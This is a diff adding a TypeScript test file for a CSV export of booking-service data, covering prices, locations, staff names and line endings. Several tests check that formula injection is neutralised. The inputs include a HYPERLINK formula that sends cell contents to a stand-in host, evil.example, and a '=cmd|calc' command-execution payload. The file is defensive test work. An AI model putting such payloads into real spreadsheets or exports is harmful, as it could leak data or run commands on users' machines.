@@ -1,0 +1,173 @@
+import Papa from 'papaparse';
+import { expect, it } from 'vitest';
+import type { Service } from '../../../contract/entities/service.ts';
+import { i18nProvider } from '../../messages/i18nProvider.ts';
+import { csvColumns, csvHead, csvLines, type CsvColumn } from './serviceCsv.ts';
+
+const words = {
+  text: i18nProvider.translate,
+  staffNames: new Map([
+    ['mara', 'Mara'],
+    ['ben', 'Ben; the other'],
+  ]),
+  currency: 'EUR',
+  now: new Date('2027-03-01T09:00:00Z'),
+};
+
+const massage: Service = {
+  id: '10000000-0000-4000-8000-000000000001',
+  type: 'APPOINTMENT',
+  name: 'Deep tissue massage',
+  category: { id: '20000000-0000-4000-8000-000000000001', name: 'Massage' },
+  staffMemberIds: ['mara', 'unknown', 'ben'],
+  payment: { rateType: 'FIXED', fixed: { price: { value: '85.00' }, deposit: { value: '20' } } },
+  schedule: { availabilityConstraints: { sessionDurations: [60, 90] } },
+  onlineBooking: { enabled: true },
+  locations: [{ type: 'BUSINESS', business: { id: 'mitte', name: 'Mitte' } }, { type: 'CUSTOMER' }],
+  mainSlug: { name: 'deep-tissue' },
+  createdDate: '2026-01-01T00:00:00.000Z',
+  updatedDate: '2026-02-01T00:00:00.000Z',
+  revision: '1',
+};
+
+/** RFC 4180, and no guessing. */
+const format = { delimiter: ',', newline: '\r\n', skipEmptyLines: 'greedy' } as const;
+
+/** The file as a program reads it: rows by the headings, each value without the apostrophe that was put in front. */
+function read(file: string): Record<CsvColumn, string>[] {
+  const { data, errors } = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), format);
+  expect(errors).toEqual([]);
+  const [head, ...rows] = data;
+  expect(head).toEqual(csvColumns.map((column) => words.text(`serviceExport.column.${column}`)));
+  return rows.map(
+    (row) =>
+      Object.fromEntries(csvColumns.map((column, at) => [column, row[at]?.replace(/^'/, '')])) as Record<
+        CsvColumn,
+        string
+      >,
+  );
+}
+
+const fileOf = (...services: Service[]) => csvHead(words) + csvLines(services, words);
+
+it('says of each service what the list says, in plain values', () => {
+  expect(read(fileOf(massage))).toEqual([
+    {
+      id: massage.id,
+      name: 'Deep tissue massage',
+      type: 'Appointment',
+      category: 'Massage',
+      tagLine: '',
+      description: '',
+      state: 'Bookable',
+      shown: 'yes',
+      online: 'yes',
+      rate: 'Fixed price',
+      price: '85.00',
+      highestPrice: '',
+      priceWords: '',
+      currency: 'EUR',
+      deposit: '20',
+      lengths: '60; 90',
+      places: '',
+      locations: 'Mitte; Customer’s place',
+      staff: 'Mara; Ben; the other',
+      address: 'deep-tissue',
+      link: '',
+      created: '2026-01-01T00:00:00.000Z',
+      changed: '2026-02-01T00:00:00.000Z',
+    },
+  ]);
+});
+
+it.each<[string, Partial<Service>, object]>([
+  [
+    'a price that varies from its lowest to its highest',
+    {
+      payment: {
+        rateType: 'VARIED',
+        varied: { minPrice: { value: '10', currency: 'USD' }, maxPrice: { value: '40', currency: 'USD' } },
+      },
+    },
+    { price: '10', highestPrice: '40', currency: 'USD', rate: 'Price varies' },
+  ],
+  [
+    'words instead of a price',
+    { payment: { rateType: 'CUSTOM', custom: { description: 'Ask at the desk' } } },
+    { price: '', currency: '', priceWords: 'Ask at the desk', rate: 'Words instead' },
+  ],
+  [
+    'a monthly amount',
+    {
+      type: 'COURSE',
+      defaultCapacity: 8,
+      payment: { rateType: 'SUBSCRIPTION', subscription: { amountPerBillingCycle: { value: '30' } } },
+    },
+    { price: '30', currency: 'EUR', places: '8', lengths: '', type: 'Course' },
+  ],
+  [
+    'nothing to pay, and hidden',
+    { hidden: true, payment: { rateType: 'NO_FEE' } },
+    { price: '', shown: 'no', state: 'Hidden' },
+  ],
+  ['no payment at all', { payment: undefined }, { price: '', rate: '', currency: '' }],
+])('says %s', (_what, parts, said) => {
+  expect(read(fileOf({ ...massage, ...parts }))).toEqual([expect.objectContaining(said)]);
+});
+
+const formulas = [
+  '=1+1',
+  '=HYPERLINK("https://evil.example/?"&A1,"Prices")',
+  '+49 30 1234567',
+  '-5 kilos',
+  '@studio',
+  '\tindented',
+  '\rreturned',
+  '=first line\nsecond line',
+  '＝wide',
+];
+
+it.each(formulas)('A16: %j begins with an apostrophe in the file, and is itself again when read', (text) => {
+  const file = fileOf({ ...massage, name: text, tagLine: text });
+  const { data } = Papa.parse<string[]>(file, format);
+  expect(data[1]?.[csvColumns.indexOf('name')]).toBe(`'${text}`);
+  expect(read(file)).toEqual([expect.objectContaining({ name: text, tagLine: text })]);
+});
+
+it.each([
+  "'quoted'",
+  "'=1+1",
+  'Yoga, "slow" and warm',
+  'first line\r\nsecond line\n\n"third"',
+  ' kept space ',
+  '75% off; 2 = 3 - 1',
+  'Größe 🧘 שלום',
+  '007',
+])('A16: %j comes back as it was', (text) => {
+  const [row] = read(fileOf({ ...massage, name: text, description: text }));
+  expect(row).toMatchObject({ name: text, description: text });
+});
+
+it('A16: no cell of a whole file begins like a formula, whatever field it came from', () => {
+  const hostile = '=cmd|calc';
+  const file = fileOf({
+    ...massage,
+    name: hostile,
+    tagLine: hostile,
+    description: hostile,
+    category: { name: hostile },
+    payment: { rateType: 'CUSTOM', custom: { description: hostile } },
+    locations: [{ type: 'BUSINESS', business: { id: 'mitte', name: hostile } }],
+    mainSlug: { name: hostile },
+  });
+  const cells = Papa.parse<string[]>(file.slice(1), format).data.flat();
+  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  expect(cells.filter((cell) => cell === `'${hostile}`)).toHaveLength(7);
+});
+
+it('ends each line alike, so that pages written one after the other are one file', () => {
+  const pages =
+    csvHead(words) + csvLines([massage], words) + csvLines([], words) + csvLines([massage], words);
+  expect(read(pages)).toHaveLength(2);
+  expect(pages.endsWith('\r\n')).toBe(true);
+});
